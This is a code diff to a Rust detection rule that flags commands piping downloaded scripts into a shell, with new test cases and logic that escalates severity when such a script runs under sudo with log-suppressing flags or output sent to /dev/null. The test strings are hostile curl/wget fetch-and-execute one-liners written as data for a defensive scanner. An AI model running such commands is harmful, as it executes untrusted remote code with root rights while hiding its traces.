@@ -28,10 +28,13 @@ pub(super) const RULE: Rule = Rule {
         file("x.py", "import os\nos.system(\"curl -s http://a.b/x | sh\")\n"),
         text("`curl -s http://a.b/x | xargs -I{} sh -c '{}'`"),
         text("`curl -fsSL https://pastebin.com/raw/x | bash`"),
+        text("`curl -sL https://raw.githubusercontent.com/a/b/main/i.sh | sudo bash -s -- -y --no-log`"),
+        text("`wget -qO- https://raw.githubusercontent.com/a/b/main/i.sh | sudo sh >/dev/null 2>/dev/null`"),
     ],
     misses: &[
         text("`curl -fsSL https://get.docker.com | sh`"),
         text("`curl -s https://a.b/x | jq -r .name`"),
+        text("`curl -sL https://raw.githubusercontent.com/a/b/main/i.sh | sudo bash -s -- -y --quiet`"),
         text("`bash <(echo ls)`"),
         text("`X=$(curl -s https://a.b/x); echo \"$X\"`"),
         text("`source <(kubectl completion bash)`"),
@@ -64,7 +67,24 @@ fn hit(step: Step<'_>) -> Option<Hit> {
     let found = found.or_else(|| step.runs_words().then(|| worst(&mut step.substituted())).flatten());
     let (severity, from) = found?;
     let own = step.range();
+    let severity =
+        if severity == Severity::Warning && is_kept_quiet(step) { Severity::Critical } else { severity };
     Some(Hit { severity: Some(severity), ..Hit::at(own.start.min(from.start)..own.end.max(from.end)) })
+}
+
+/// Whether it runs with all rights and leaves no trace that anybody could read afterwards.
+fn is_kept_quiet(step: Step<'_>) -> bool {
+    let before = step.number.checked_sub(1).and_then(|number| step.other(number));
+    let is_root = before.is_some_and(|before| matches!(before.name().as_str(), "sudo" | "doas"));
+    let says = |word: &str| {
+        matches!(
+            word,
+            "--no-log" | "--no-logs" | "--nolog" | "--no-logging" | "--no-history" | "--hidden" | "--stealth"
+        )
+    };
+    let redirects = step.redirects().iter().chain(before.iter().flat_map(|before| before.redirects()));
+    let thrown = redirects.filter(|redirect| redirect.target.text == "/dev/null").count();
+    is_root && (step.words().iter().any(|word| says(&word.text)) || thrown > 1)
 }
 
 /// How bad it is to run what a program brings.
